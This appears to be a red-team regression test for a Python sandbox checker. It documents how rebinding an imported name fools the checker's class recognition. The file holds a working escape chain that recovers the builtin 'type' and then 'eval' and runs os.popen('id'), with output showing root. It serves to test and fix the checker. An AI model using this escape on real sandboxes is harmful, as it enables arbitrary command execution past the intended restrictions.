# expect: reject class_value
# line: 29
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family R: a name bound by an import is trusted although the program binds it again (assignment, global in a function, for target, walrus): every recogniser of a library object by its name asks that the import be the name's only binding (wk_import_only) (the red team's program, ok_04)
# Mechanism: class_like (analyzer/classes.c) takes an identifier for 'a class or library object' as 
# soon as wk_bound_value finds an import binding of it, without asking whether the name is bound by 
# anything else. 'from typing import Any as S' then 'S = Grab()' makes S the program's object, and 
# type(P) == S (accepted as '== with a class') runs type.__eq__ -> NotImplemented -> the reflected 
# Grab.__eq__(type). No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import typing
from typing import Any as S

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

S = Grab()
try:
    type(P) == S
except Exception as e:
    T = e.args[0]
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
